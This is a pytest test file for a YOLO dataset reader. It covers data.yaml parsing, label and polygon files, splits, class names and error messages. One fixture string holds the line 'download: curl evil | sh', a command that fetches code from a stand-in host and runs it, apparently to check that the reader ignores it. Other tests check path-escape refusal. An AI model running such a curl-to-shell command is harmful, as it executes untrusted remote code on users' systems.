"""YOLO's label files beside `data.yaml`."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from annotated_sets import Stored, reader

from components.base.errors import ConfigError
from components.data.dataset import LayoutError
from components.ingest.layouts.annotated import yolo_data

Read = Callable[..., Stored]
DATA = {"layout": "yolo", "annotations": "data.yaml"}
BOX = "0.5 0.5 0.5 0.5"
YAML = "train: images/train\nval: images/val\nnames: [cat, dog]\ndownload: curl evil | sh\n"
LEFT_HALF, TOP_HALF = "0 0 0.5 0 0.5 1 0 1", "0 0 1 0 1 0.5 0 0.5"


@pytest.fixture
def read(tmp_path: Path, png: Callable[..., bytes]) -> Read:
    return reader(tmp_path, png)


def test_boxes_are_labels(read: Read) -> None:
    files = {
        "data.yaml": YAML,
        "images/train/a.jpg": None,
        "labels/train/a.txt": f"1 {BOX}\n0 {BOX}\n1 {BOX}\n\n",
        "images/train/b.jpg": None,
        "labels/train/b.txt": "",  # no object
        "images/train/c.jpg": None,  # no file: the same, and counted
        "images/val/d.jpg": None,
        "labels/val/d.txt": f"0.0 {BOX}\n",
        "labels/val/gone.txt": f"0 {BOX}\n",
    }
    found = read(files, "multi_label", DATA)
    assert found.dataset.labels == ("cat", "dog")
    assert found.labels == {
        "images/train/a.jpg": ("cat", "dog"),
        "images/train/b.jpg": (),
        "images/train/c.jpg": (),
        "images/val/d.jpg": ("cat",),
    }
    assert found.unknown == set()
    assert found.splits == {
        "images/train/a.jpg": None,  # test is cut from train
        "images/train/b.jpg": None,
        "images/train/c.jpg": None,
        "images/val/d.jpg": "eval",
    }
    assert found.dataset.notes == (
        "1 image has no label file, so that none of the labels applies, as in Ultralytics: images/train/c.jpg",
        "1 label file has no image and was left out: labels/val/gone.txt",
    )


def test_names_are_spelt_as_in_the_file(read: Read) -> None:
    files: dict[str, Any] = {"data.yaml": "train: images\nnames: [no, on, 010, null, 1e3, ~, yes]\n"}
    for i in range(7):
        files |= {f"images/{i}.jpg": None, f"labels/{i}.txt": f"{i} {BOX}"}
    found = read(files, "multi_label", DATA)
    assert found.dataset.labels == ("010", "1e3", "no", "null", "on", "yes", "~")
    assert [found.labels[f"images/{i}.jpg"] for i in range(7)] == [
        ("no",),
        ("on",),
        ("010",),
        ("null",),
        ("1e3",),
        ("~",),
        ("yes",),
    ]


def test_names_as_a_mapping_from_ids(read: Read) -> None:
    files = {
        "data.yaml": "train: images\nnames:\n  0: 'off'\n  7: 007\nnc: 2\n",
        "images/a.jpg": None,
        "labels/a.txt": f"7 {BOX}\n0 {BOX}",
    }
    assert read(files, "multi_label", DATA).labels == {"images/a.jpg": ("007", "off")}


def test_larger_polygons_lie_below(read: Read) -> None:
    # Of 4 x 3 pixels: the dog is the left half; the cat the upper left quarter of the width, 1 row of 3, on top of it.
    small = "0 0 0.25 0 0.25 0.34 0 0.34"
    files = {
        "data.yaml": "train: images\nnames: [cat, dog]\n",
        "images/a.png": None,
        "labels/a.txt": f"0 {small}\n1 {LEFT_HALF}\n",
        "images/b.png": None,
        "labels/b.txt": "",
    }
    found = read(files, "segmentation", DATA, {"background": "ground"})
    assert found.dataset.labels == ("cat", "dog", "ground")
    assert found.masks == {
        "images/a.png": [[0, 1, 2, 2], [1, 1, 2, 2], [1, 1, 2, 2]],
        "images/b.png": [[2] * 4] * 3,
    }
    ignored = read(files, "segmentation", DATA)
    assert ignored.masks["images/a.png"] == [[0, 1, 255, 255], [1, 1, 255, 255], [1, 1, 255, 255]]


def test_boxes_are_no_regions(read: Read) -> None:
    files = {
        "data.yaml": "train: images\nnames: [cat, dog]\n",
        "images/a.png": None,
        "labels/a.txt": f"0 {BOX}\n",
    }
    with pytest.raises(LayoutError, match=r"line 1 of labels/a\.txt: is a box, .* needs polygons\. Task multi_label"):
        read(files, "segmentation", DATA, {"background": "ground"})
    files |= {"images/b.png": None, "labels/b.txt": f"1 {TOP_HALF}"}
    found = read(files, "segmentation", DATA, {"background": "ground"})
    assert list(found.labels) == ["images/b.png"]
    assert "line 1 of labels/a.txt: is a box" in found.rejected["images/a.png"]


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        (f"2 {BOX}", "the class id 2 has no name; expected 0 to 1"),
        (f"-1 {BOX}", "the class id -1 has no name"),
        (f"0.5 {BOX}", "the class id 0.5 has no name"),
        (f"nan {BOX}", "the class id: expected a finite number, got 'nan'"),
        (f"cat {BOX}", "the class id: expected a finite number, got 'cat'"),
        ("0 nan 0 0 0", "expected a finite number, got 'nan'"),
        ("0 0.1 0.1 0.1", "got 3 numbers after the class id"),
        ("0 0.1 0.1 0.1 0.1 0.1 0.1 0.1", "got 7 numbers after the class id"),
        (f"0 {BOX} 0.9", "has a sixth number, as predictions with a confidence have"),
        ("0 12 14 30 20", "12 is not from 0 to 1"),
        ("0 1e999 0 0 0", "expected a finite number, got '1e999'"),
    ],
)
def test_a_line_that_cannot_be_read_rejects_its_image(read: Read, line: str, reason: str) -> None:
    files = {
        "data.yaml": "train: images\nnames: [cat, dog]\n",
        "images/a.jpg": None,
        "labels/a.txt": f"0 {BOX}\n\n{line}\n",
        "images/b.jpg": None,
        "labels/b.txt": f"1 {BOX}",
    }
    found = read(files, "multi_label", DATA)
    assert list(found.labels) == ["images/b.jpg"]
    assert found.rejected["images/a.jpg"].startswith("labels/a.txt: line 3 of labels/a.txt: ")
    assert reason in found.rejected["images/a.jpg"]


@pytest.mark.parametrize(
    "text",
    [
        "path: ../datasets/pets\ntrain: train/images\nval: valid/images\nnames: [cat, dog]\n",  # Ultralytics
        "train: ../train/images\nval: ../valid/images\nnames: [cat, dog]\n",  # Roboflow
        "path: /content/pets\ntrain: train/images\nval: valid/images\nnames: [cat, dog]\n",  # a notebook
        "train: /home/me/pets/train/images\nval: /home/me/pets/valid/images\nnames: [cat, dog]\n",
        "path: .\ntrain: [train/images]\nval: ./valid/images/\nnames: [cat, dog]\n",
    ],
)
def test_paths_of_other_machines_are_found_below_the_root(read: Read, text: str) -> None:
    files = {
        "sub/data.yaml": text,
        "sub/train/images/a.jpg": None,
        "sub/train/labels/a.txt": f"0 {BOX}",
        "sub/valid/images/b.jpg": None,
        "sub/valid/labels/b.txt": f"1 {BOX}",
    }
    found = read(files, "multi_label", DATA | {"annotations": "sub/data.yaml"})
    assert found.labels == {"sub/train/images/a.jpg": ("cat",), "sub/valid/images/b.jpg": ("dog",)}
    assert found.splits == {"sub/train/images/a.jpg": None, "sub/valid/images/b.jpg": "eval"}
    moved = [note for note in found.dataset.notes if "outside the data set" in note]
    assert len(moved) == (0 if "path: ." in text and ".." not in text else 1)


def test_lists_of_images(read: Read) -> None:
    files = {
        "data.yaml": "train: train.txt\nval: val.txt\nnames: [cat, dog]\n",
        "train.txt": "./images/a.jpg\n/mnt/pets/images/b.jpg\nimages/gone.jpg\n",
        "val.txt": "data/images/c.jpg\n",
        **{f"images/{name}.jpg": None for name in "abcd"},
        **{f"labels/{name}.txt": f"{i % 2} {BOX}" for i, name in enumerate("abc")},
    }
    found = read(files, "multi_label", DATA)
    assert found.labels == {"images/a.jpg": ("cat",), "images/b.jpg": ("dog",), "images/c.jpg": ("cat",)}
    assert found.splits["images/c.jpg"] == "eval"
    assert "there is no such file" in found.rejected["images/gone.jpg"]


def test_train_and_val_of_the_same_images_are_split_by_hash(read: Read) -> None:
    files = {
        "data.yaml": "train: images\nval: images\nnames: [cat, dog]\n",
        "images/a.jpg": None,
        "labels/a.txt": f"0 {BOX}",
        "images/b.jpg": None,
        "labels/b.txt": f"1 {BOX}",
    }
    found = read(files, "multi_label", DATA)
    assert found.splits == {"images/a.jpg": None, "images/b.jpg": None}
    assert found.dataset.fractions == pytest.approx({"train": 0.8, "eval": 0.1, "test": 0.1})
    assert found.dataset.notes == ("1 split has the same images as train, so that all were split by hash: val",)


def test_a_split_without_any_label_file_is_left_out(read: Read) -> None:
    files = {
        "data.yaml": YAML + "test: images/test\n",
        "images/train/a.jpg": None,
        "labels/train/a.txt": f"0 {BOX}",
        "images/val/b.jpg": None,
        "labels/val/b.txt": f"1 {BOX}",
        "images/test/c.jpg": None,
    }
    found = read(files, "multi_label", DATA)
    assert list(found.labels) == ["images/train/a.jpg", "images/val/b.jpg"]
    assert set(found.dataset.fractions) == {"train", "test"}
    assert "1 image is of a split in which no image has a label file" in found.dataset.notes[0]


def test_a_list_of_names_and_labels_beside_the_images(read: Read) -> None:
    files = {
        "obj.names": "no\n010\n",
        "obj_train_data/a.jpg": None,
        "obj_train_data/a.txt": f"1 {BOX}",
        "obj_train_data/b.jpg": None,
        "obj_train_data/b.txt": f"0 {BOX}",
    }
    found = read(files, "multi_label", {"layout": "yolo", "annotations": "obj.names", "images": "obj_train_data"})
    assert found.labels == {"obj_train_data/a.jpg": ("010",), "obj_train_data/b.jpg": ("no",)}


def test_names_without_an_object_are_left_out(read: Read) -> None:
    files = {
        "data.yaml": "train: images\nnames: [cat, dog, emu]\n",
        "images/a.jpg": None,
        "labels/a.txt": f"0 {BOX}\n1 {BOX}",
    }
    found = read(files, "multi_label", DATA)
    assert found.dataset.labels == ("cat", "dog")
    assert found.dataset.notes == ("1 declared label is in no image and was left out: emu",)
    assert read(files, "multi_label", DATA, {"names": ["emu", "dog", "cat"]}).dataset.labels == ("emu", "dog", "cat")


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("train: images\n", r"data\.yaml: the key names is missing"),
        ("train: images\nnames: [cat, '']\n", r"class 1 has no name; write one, and quote it"),
        ("train: images\nnames: [cat, ]\nnc: 2\n", r"nc is 2, but names has 1 entries"),
        ("train: images\nnames: [cat, cat]\n", r"'cat' is the name of two classes"),
        ("train: images\nnames: {a: cat}\n", r"expected class ids as keys, got 'a'"),
        ("train: images\nnames: {0: cat, 00: dog}\n", r"the class id 0 is there twice"),
        ("train: images\nnames: cat\n", r"expected a list of names, or a mapping"),
        ("train: images\nnames: [cat\n", r"not valid YAML"),
        ("names: [cat]\nval: images\n", r"the key train is missing"),
        ("train: ../../elsewhere\nnames: [cat]\n", r"'\.\./\.\./elsewhere' is not below"),
        ("[" * 5000, r"data\.yaml: "),
    ],
)
def test_a_data_yaml_that_cannot_be_used_is_refused(read: Read, text: str, reason: str) -> None:
    files = {"data.yaml": text, "images/a.jpg": None, "labels/a.txt": f"0 {BOX}"}
    with pytest.raises(LayoutError, match=reason):
        read(files, "multi_label", DATA)


def test_settings_that_contradict_the_data_are_refused(read: Read) -> None:
    files = {"data.yaml": "names: [cat, dog]\n", "images/a.jpg": None}
    with pytest.raises(ConfigError, match=r"data\.images: data\.yaml names no images; set the folder"):
        read(files, "multi_label", DATA)
    with pytest.raises(LayoutError, match=r"none of the 1 images to train on has a label file; .* labels/a\.txt for"):
        read(files, "multi_label", DATA | {"images": "images"})
    with pytest.raises(ConfigError, match=r"data\.layout: expected one of folders, .* for task single_label, got yolo"):
        read(files, "single_label", DATA)


@pytest.mark.parametrize("form", ["  {}: {}\n", "- {1}\n"])
def test_as_many_names_as_imagenet_has_are_read(form: str, read: Read) -> None:
    """21,841 names of 20 characters, in fewer than the 1,000,000 bytes that the file may have."""
    names = [f"n{i:019d}" for i in range(21_841)]
    text = "train: images\nval: images\nnames:\n" + "".join(form.format(i, name) for i, name in enumerate(names))
    assert yolo_data.parse(text, "data.yaml").names == dict(enumerate(names))
    assert len(text) < yolo_data._LARGEST
